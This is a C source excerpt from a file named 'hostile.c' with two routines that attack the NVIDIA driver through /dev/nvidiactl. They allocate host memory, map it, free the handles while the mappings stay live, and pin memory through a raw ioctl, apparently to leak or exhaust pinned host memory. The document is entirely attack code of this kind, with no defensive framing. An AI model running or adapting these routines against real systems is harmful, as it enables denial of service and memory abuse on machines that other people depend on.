/* Memory of the host's that is pinned, and its end; a part of hostile.c. */

/* pin PIECE_MIB MOST_MIB: memory of the host's, which is freed while it is mapped; then all of it is let go of, and there must be some again. */
static void attack_pin(char **a) {
    struct session s = begin();
    uint64_t piece = number(a, 0, 64) * MIB, most = number(a, 1, 1 << 15) * MIB, count = 0;
    struct {
        void *at;
        int fd;
    } kept[1024];
    long status = 0, mapped = 0;
    for (; count < 1024 && count * piece < most; count++) {
        uint32_t handle = 0;
        if ((status = host_memory(&s, piece, &handle))) break;
        int fd = xopen("/dev/nvidiactl");
        if ((mapped = rm_map(&s, handle, piece, fd))) break;
        void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (at == MAP_FAILED) {
            mapped = -errno;
            break;
        }
        rm_free(s.control, s.client, handle);
        /* The mapping keeps the file and the pages; so does the file alone, of what was freed before the mapping's end. */
        if (count % 2) munmap(at, piece), at = NULL;
        else close(fd), fd = -1;
        kept[count].at = at;
        kept[count].fd = fd;
    }
    say("mapped", mapped);
    say("status", status);
    say("pinned", count * piece);
    char line[8];
    if (!fgets(line, sizeof line, stdin)) return;
    for (uint64_t i = 0; i < count; i++) {
        if (kept[i].at) munmap(kept[i].at, piece);
        else close(kept[i].fd);
    }
    uint32_t handle = 0;
    say("again", host_memory(&s, piece, &handle));
    for (;;) pause();
}
/* pin-mapped PIECE_MIB MOST_MIB: memory of the host's is pinned where it is mapped, and then freed, unmapped and its file closed. */
static void attack_pin_mapped(char **a) {
    struct session s = begin();
    uint64_t piece = number(a, 0, 64) * MIB, most = number(a, 1, 1 << 16) * MIB, count = 0;
    long status = register_card(&s);
    say("registered", status);
    for (; !status && count * piece < most; count++) {
        uint32_t handle = 0;
        if ((status = host_memory(&s, piece, &handle))) break;
        int fd = xopen("/dev/nvidiactl");
        if ((status = rm_map(&s, handle, piece, fd))) break;
        void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (at == MAP_FAILED) {
            status = -errno;
            break;
        }
        struct rm_pin call = pin_call(&s, 0x70000000 + count, at, piece);
        status = ioctl(s.card, RM(0x27, struct rm_pin), &call) < 0 ? -errno : (long)call.status;
        rm_free(s.control, s.client, handle);
        munmap(at, piece);
        close(fd);
        if (status) break;
    }
    say("status", status);
    say("kept", count * piece);
    /* All of it is let go of with what pins it. */
    for (uint64_t i = 0; i < count; i++) rm_free(s.control, s.client, 0x70000000 + i);
    uint32_t handle = 0;
    say("again", host_memory(&s, piece, &handle));
    for (;;) pause();
}
